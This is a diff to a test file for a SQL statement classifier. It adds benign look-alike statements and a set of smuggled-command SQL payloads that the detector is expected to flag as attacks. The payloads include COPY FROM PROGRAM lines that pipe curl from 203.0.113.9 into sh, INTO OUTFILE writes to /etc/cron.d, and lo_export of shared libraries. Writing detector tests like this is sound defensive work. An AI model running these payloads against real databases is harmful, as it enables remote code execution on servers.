@@ -33,9 +33,31 @@ test.each([
   "SELECT * FROM program WHERE name = 'curl'",
   'COPY t FROM STDIN',
   "INSERT INTO notes VALUES ('how to curl a file')",
+  "INSERT INTO pages VALUES ('How xp_cmdshell and lo_export are abused; COPY t FROM PROGRAM ''curl x | sh''')",
+  "SELECT id FROM audit WHERE text LIKE '%into outfile ''/usr/lib/plugin/x.so''%' -- COPY t FROM PROGRAM 'curl'",
+  "UPDATE t SET a = 'x' /* CREATE FUNCTION f SONAME 'y.so' */ WHERE b = 'sys_exec'",
   '',
 ])('says nothing: %s', (statement) => {
   expect(statementMeaning(statement)).toBeUndefined();
+});
+
+/** Quotes that one database sees and another does not, each with a command that is run where it is not. */
+test.each([
+  "SELECT 1 -- '\n; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh'",
+  "SELECT '--'; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh'",
+  "SELECT '/*'; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh' /*'*/",
+  "SELECT /* /* */ ' */ 1; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh'",
+  "SELECT '\\'; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh' --'",
+  "SELECT 1--'\n; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh' --'",
+  "SELECT 1 # '\n; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh' #'",
+  "SELECT $x$'$x$; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh' --'",
+  "SELECT 'x' /*!50000 INTO OUTFILE '/etc/cron.d/x' */",
+  'SELECT "lo_export"(1, \'/tmp/x.so\')',
+  "DO 'BEGIN EXECUTE ''COPY t FROM PROGRAM ''''curl x|sh''''''; END'",
+  "SELECT dblink('host=x', 'COPY t FROM PROGRAM ''curl x|sh''')",
+  "INSERT INTO t VALUES ('a'); COPY t FROM/* */PROGRAM 'curl x|sh'",
+])('an attack whatever is quoted: %s', (statement) => {
+  expect(statementMeaning(statement)).toBe('attack');
 });
 
 test('a long statement that leads nowhere is read quickly', () => {
